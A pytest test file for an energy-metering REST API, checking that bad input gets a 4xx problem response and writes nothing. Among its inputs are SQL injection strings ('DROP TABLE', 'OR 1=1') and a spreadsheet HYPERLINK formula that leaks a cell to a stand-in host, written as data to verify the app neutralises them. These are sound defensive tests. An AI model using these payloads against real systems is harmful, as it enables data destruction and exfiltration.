"""Bad input gets a 4xx problem+json that names the problem, and writes nothing.

Each case is sent as the company admin of A (who may write A's rows, so a refusal is about the
input, not the caller) in a savepoint that is undone; every table and the audit log are compared
before and after.  ``{company}``, ``{site}``, ``{asset}``, ``{point}`` are A's ids.
"""

from __future__ import annotations

import base64
import io
import json
from typing import Any

import openpyxl
import pytest

from sandan.app import create_app
from sandan.core.brn import check_digit
from tests.api.support import (
    API,
    ApiClient,
    World,
    api_settings,
    assert_problem,
    changed_tables,
    rolled_back,
    snapshot,
)

INJECTION = "'; DROP TABLE companies; --"
SITE = {"company_id": "{company}", "name": "제2공장"}
POINT = {"site_id": "{site}", "code": "new.kwh", "name": "신규 계량기", "quantity": "active_energy", "unit": "kWh",
         "carrier": "electricity", "kind": "interval"}
COMPANY = {"complex_id": "{complex}", "name": "신규기업", "brn": "124-81-00998", "ksic_code": "24111",
           "size_class": "sme"}


def _cursor(value: Any) -> str:
    return base64.urlsafe_b64encode(json.dumps(value).encode()).decode().rstrip("=")


def _brn_with_wrong_check_digit() -> str:
    nine = "124810099"
    return f"{nine[:3]}-{nine[3:5]}-{nine[5:]}{(check_digit(nine) + 1) % 10}"


# (case id, method, url, json body or raw bytes, expected status, words the detail must contain)
CASES: list[tuple[str, str, str, Any, int, tuple[str, ...]]] = [
    # malformed and mistyped bodies
    ("malformed json", "POST", "/sites", b'{"company_id": {company}, "name": ', 422, ("json",)),
    ("body not an object", "POST", "/sites", b'["a site"]', 422, ("object",)),
    ("empty body", "POST", "/sites", b"", 422, ("body",)),
    ("id as text", "POST", "/sites", {**SITE, "company_id": "abc"}, 422, ("company_id",)),
    ("name as number", "POST", "/sites", {**SITE, "name": 12}, 422, ("name",)),
    ("missing name", "POST", "/sites", {"company_id": "{company}"}, 422, ("name",)),
    ("unknown field", "POST", "/sites", {**SITE, "owner": "me"}, 422, ("owner",)),
    ("empty name", "POST", "/sites", {**SITE, "name": ""}, 422, ("name",)),
    ("name too long", "POST", "/sites", {**SITE, "name": "가" * 201}, 422, ("name",)),
    ("NUL in name", "POST", "/sites", {**SITE, "name": "a\x00b"}, 422, ("NUL",)),
    ("NaN in body", "POST", "/points", b'{"site_id": {site}, "code": "n.kwh", "name": "n", "quantity": '
     b'"active_energy", "unit": "kWh", "carrier": "electricity", "kind": "interval", "valid_max": NaN}',
     422, ("valid_max",)),
    ("Infinity nested", "POST", "/points", b'{"site_id": {site}, "code": "n.kwh", "name": "n", "quantity": '
     b'"active_energy", "unit": "kWh", "carrier": "electricity", "kind": "interval", "source": {"k": Infinity}}',
     422, ("finite",)),
    ("negative id", "POST", "/sites", {**SITE, "company_id": -1}, 422, ("company_id",)),
    ("id beyond 32 bits", "POST", "/sites", {**SITE, "company_id": 2**40}, 422, ("company_id",)),
    ("latitude outside Korea", "POST", "/sites", {**SITE, "lat": 51.5}, 422, ("lat",)),
    ("null name on update", "PATCH", "/sites/{site}", {"name": None}, 422, ("name",)),
    ("null source on update", "PATCH", "/points/{point}", {"source": None}, 422, ("source",)),
    ("form instead of json", "POST", "/sites", "form", 422, ("body",)),
    # unknown ids
    ("unknown company", "GET", "/companies/987654321", None, 404, ("company 987654321",)),
    ("unknown parent", "POST", "/sites", {**SITE, "company_id": 987654321}, 404, ("company 987654321",)),
    ("unknown parent asset", "POST", "/assets", {"site_id": "{site}", "parent_id": 987654321, "level": "line",
                                                 "name": "x"}, 404, ("asset 987654321",)),
    ("unknown point update", "PATCH", "/points/987654321", {"name": "x"}, 404, ("point 987654321",)),
    ("unknown asset delete", "DELETE", "/assets/987654321", None, 404, ("asset 987654321",)),
    ("unknown token", "DELETE", "/tokens/987654321", None, 404, ("token 987654321",)),
    ("id in path not a number", "GET", "/companies/1;DROP", None, 422, ("company_id",)),
    ("id zero in path", "GET", "/sites/0", None, 422, ("site_id",)),
    ("huge id in path", "GET", "/points/99999999999999999999", None, 422, ("point_id",)),
    ("no such route", "GET", "/nowhere", None, 404, ("Not Found",)),
    ("method not allowed", "PUT", "/sites/{site}", {"name": "x"}, 405, ("Method Not Allowed",)),
    # the core model's own rules
    ("unknown unit", "POST", "/points", {**POINT, "unit": "furlong/fortnight"}, 422, ("unit",)),
    ("unit of another quantity", "POST", "/points", {**POINT, "unit": "kW"}, 422, ("does not measure",)),
    ("unknown quantity", "POST", "/points", {**POINT, "quantity": "vibes"}, 422, ("quantity",)),
    ("unknown carrier", "POST", "/points", {**POINT, "carrier": "plasma"}, 422, ("carrier",)),
    ("valid range upside down", "POST", "/points", {**POINT, "valid_min": 10, "valid_max": 1}, 422, ("valid_min",)),
    ("register max on interval", "POST", "/points", {**POINT, "register_max": 1e6}, 422, ("register_max",)),
    ("point code with spaces", "POST", "/points", {**POINT, "code": "a b"}, 422, ("code",)),
    ("duplicate point code", "POST", "/points", {**POINT, "code": "c1.main.kwh"}, 409, ("code",)),
    ("asset below equipment", "POST", "/assets", {"site_id": "{site}", "parent_id": "{asset}",
                                                  "level": "line", "name": "x"}, 422, ("cannot sit below",)),
    ("asset with children deleted", "DELETE", "/assets/{area}", None, 409, ("child",)),
    ("BRN check digit", "POST", "/companies", {**COMPANY, "brn": _brn_with_wrong_check_digit()}, 422,
     ("check digit",)),
    ("BRN too short", "POST", "/companies", {**COMPANY, "brn": "123-45-678"}, 422, ("10 digits",)),
    ("BRN letters", "POST", "/companies", {**COMPANY, "brn": "12a-45-67890"}, 422, ("10 digits",)),
    ("KSIC not digits", "POST", "/companies", {**COMPANY, "ksic_code": "C24"}, 422, ("ksic_code",)),
    ("size class unknown", "POST", "/companies", {**COMPANY, "size_class": "huge"}, 422, ("size_class",)),
    # SQL metacharacters are data, never SQL
    ("injection in unit", "POST", "/points", {**POINT, "unit": INJECTION}, 422, ("unit",)),
    ("injection in code", "POST", "/points", {**POINT, "code": INJECTION}, 422, ("code",)),
    ("injection in quantity query", "GET", "/groups/company/{company}/series?quantity=" + INJECTION, None, 422,
     ("quantity",)),
    ("injection in unit query", "GET", "/points/{point}/series?unit=" + INJECTION, None, 422, ("unit",)),
    ("injection in carrier query", "GET", "/groups/company/{company}/series?carrier=" + INJECTION, None, 422,
     ("carrier",)),
    ("injection in filter", "GET", "/sites?company_id=1%20OR%201=1", None, 422, ("company_id",)),
    ("injection in format", "GET", "/sites?format=" + INJECTION, None, 422, ("format",)),
    # series queries
    ("start not a time", "GET", "/points/{point}/series?start=yesterday", None, 422, ("start",)),
    ("end before start", "GET", "/points/{point}/series?start=2026-03-02T00:00:00Z&end=2026-03-01T00:00:00Z",
     None, 422, ("end",)),
    ("year 1", "GET", "/points/{point}/series?start=0001-01-01T00:00:00Z&end=2026-01-02T00:00:00Z", None, 422,
     ("start",)),
    ("year 9999", "GET", "/points/{point}/series?end=9999-12-31T23:59:59Z", None, 422, ("end",)),
    ("resolution unknown", "GET", "/points/{point}/series?resolution=2h", None, 422, ("resolution",)),
    ("raw group totals", "GET", "/groups/company/{company}/series?resolution=raw", None, 422, ("resolution",)),
    ("intensive group totals", "GET", "/groups/company/{company}/series?quantity=active_power", None, 422,
     ("add up",)),
    ("unit of another quantity in series", "GET", "/points/{point}/series?unit=kW", None, 422, ("kW",)),
    ("unknown group kind", "GET", "/groups/galaxy/{company}/series", None, 422, ("kind",)),
    ("export format unknown", "GET", "/points/{point}/series?format=pdf", None, 422, ("format",)),
    ("edit without offset far away", "POST", "/points/{point}/edits",
     {"ts": "2200-01-01T00:00:00", "value": 1, "reason": "typo"}, 422, ("ts",)),
    ("edit without reason", "POST", "/points/{point}/edits", {"ts": "2026-03-02T00:00:00+09:00", "value": 1,
                                                              "reason": ""}, 422, ("reason",)),
    ("edit NaN", "POST", "/points/{point}/edits", b'{"ts": "2026-03-02T00:00:00+09:00", "value": NaN, '
     b'"reason": "bad"}', 422, ("value",)),
    ("NUL in a query", "GET", "/points/{point}/series?unit=kWh%00", None, 422, ("NUL",)),
    ("NUL in a path", "GET", "/sites/1%00", None, 422, ("NUL",)),
    # cursors
    ("cursor garbage", "GET", "/sites?cursor=%%%", None, 422, ("cursor",)),
    ("cursor not json", "GET", "/sites?cursor=" + base64.urlsafe_b64encode(b"hello").decode(), None, 422,
     ("cursor",)),
    ("cursor negative", "GET", "/sites?cursor=" + _cursor({"after": -1}), None, 422, ("cursor",)),
    ("cursor huge", "GET", "/sites?cursor=" + _cursor({"after": 10**30}), None, 422, ("cursor",)),
    ("cursor text", "GET", "/sites?cursor=" + _cursor({"after": "5; DROP TABLE sites"}), None, 422, ("cursor",)),
    ("cursor list", "GET", "/sites?cursor=" + _cursor([1, 2]), None, 422, ("cursor",)),
    ("cursor other key", "GET", "/sites?cursor=" + _cursor({"before": 3}), None, 422, ("cursor",)),
    ("cursor too long", "GET", "/sites?cursor=" + "A" * 500, None, 422, ("cursor",)),
    ("limit zero", "GET", "/sites?limit=0", None, 422, ("limit",)),
    ("limit huge", "GET", "/sites?limit=100000", None, 422, ("limit",)),
]


def _fill(text: str, world: World) -> str:
    a = world.tenants["A"]
    return (text.replace("{company}", str(a.company_id)).replace("{site}", str(a.site_id))
            .replace("{asset}", str(world.spare_asset["A"])).replace("{area}", str(a.area_id))
            .replace("{point}", str(a.main_point_id)).replace("{complex}", str(world.complexes["GY"])))


def _request_kwargs(body: Any, world: World) -> dict[str, Any]:
    if body is None:
        return {}
    if body == "form":
        return {"data": {"company_id": str(world.tenants["A"].company_id), "name": "x"}}
    if isinstance(body, bytes):
        return {"content": _fill(body.decode(), world).encode(), "headers": {"content-type": "application/json"}}
    return {"json": json.loads(_fill(json.dumps(body, ensure_ascii=False), world))}


@pytest.mark.parametrize(("method", "url", "body", "status", "words"), [c[1:] for c in CASES],
                         ids=[c[0] for c in CASES])
def test_bad_input_is_a_problem_and_writes_nothing(module_world: World, method: str, url: str, body: Any,
                                                   status: int, words: tuple[str, ...]) -> None:
    world = module_world
    kwargs = _request_kwargs(body, world)
    headers = {**world.as_("company_admin"), **kwargs.pop("headers", {})}
    before = snapshot(world.conn)
    with rolled_back(world.conn):
        response = world.client.request(method, API + _fill(url, world), headers=headers, **kwargs)
        changed = changed_tables(before, snapshot(world.conn))
    problem = assert_problem(response, status)
    text = json.dumps(problem, ensure_ascii=False)
    for word in words:
        assert word.lower() in text.lower(), f"the problem does not name '{word}': {problem}"
    assert changed == [], f"refused with {status} but changed {changed}"


def test_sql_metacharacters_are_stored_as_text(module_world: World) -> None:
    world = module_world
    a = world.tenants["A"]
    with rolled_back(world.conn):
        created = world.client.post(f"{API}/sites", headers=world.as_("company_admin"),
                                    json={"company_id": a.company_id, "name": INJECTION, "address": "1' OR '1'='1"})
        assert created.status_code == 201, created.text
        site = world.client.get(f"{API}/sites/{created.json()['id']}", headers=world.as_("company_admin")).json()
        assert site["name"] == INJECTION
        assert site["address"] == "1' OR '1'='1"
        companies = world.client.get(f"{API}/companies", headers=world.as_("platform_admin")).json()["items"]
        assert len(companies) == 3  # the table is there, with its rows


BIG = 4096


@pytest.fixture
def small_limit_client(module_world: World) -> Any:
    client = ApiClient(create_app(module_world.db, api_settings(max_body_bytes=BIG)), raise_server_exceptions=False)
    with client:
        yield client


def _big_site_body(world: World) -> bytes:
    return json.dumps({"company_id": world.tenants["A"].company_id, "name": "x", "address": "가" * BIG}).encode()


@pytest.mark.parametrize("how", ["content-length", "chunked", "understated content-length"])
def test_oversized_bodies_are_refused(module_world: World, small_limit_client: Any, how: str) -> None:
    world = module_world
    body = _big_site_body(world)
    headers = {**world.as_("company_admin"), "content-type": "application/json"}
    content: Any = body
    if how == "chunked":
        content = (body[i:i + 512] for i in range(0, len(body), 512))  # no Content-Length: chunked
    elif how == "understated content-length":
        headers["content-length"] = "100"
    before = snapshot(world.conn)
    with rolled_back(world.conn):
        response = small_limit_client.post(f"{API}/sites", headers=headers, content=content)
        changed = changed_tables(before, snapshot(world.conn))
    problem = assert_problem(response, 413)
    assert str(BIG) in problem["detail"]
    assert changed == []


def test_a_body_under_the_limit_passes(module_world: World, small_limit_client: Any) -> None:
    world = module_world
    with rolled_back(world.conn):
        response = small_limit_client.post(f"{API}/sites", headers=world.as_("company_admin"),
                                           json={"company_id": world.tenants["A"].company_id, "name": "작은 공장"})
    assert response.status_code == 201, response.text


def test_exports_never_run_a_cell_as_a_formula(module_world: World) -> None:
    """Names are the tenant's own text: in a CSV or XLSX they stay text (no formula injection),
    and control characters XLSX cannot hold do not break the download."""
    world = module_world
    a = world.tenants["A"]
    formula = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
    with rolled_back(world.conn):
        for name in (formula, "+1+1", "@SUM(A1)", "bell\x07 and tab\t"):
            created = world.client.post(f"{API}/sites", headers=world.as_("company_admin"),
                                        json={"company_id": a.company_id, "name": name})
            assert created.status_code == 201, created.text
        csv_text = world.client.get(f"{API}/sites?format=csv", headers=world.as_("company_admin")).text
        assert "'=HYPERLINK" in csv_text
        assert "'+1+1" in csv_text
        assert "'@SUM(A1)" in csv_text
        xlsx = world.client.get(f"{API}/sites?format=xlsx", headers=world.as_("company_admin"))
        assert xlsx.status_code == 200, xlsx.text
        sheet = openpyxl.load_workbook(io.BytesIO(xlsx.content)).active
        assert sheet is not None
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert not [c.value for c in cells if c.data_type == "f"], "a cell became a formula"
        names = {c.value for c in cells if isinstance(c.value, str)}
        assert "'" + formula in names
        assert "bell\ufffd and tab\t" in names
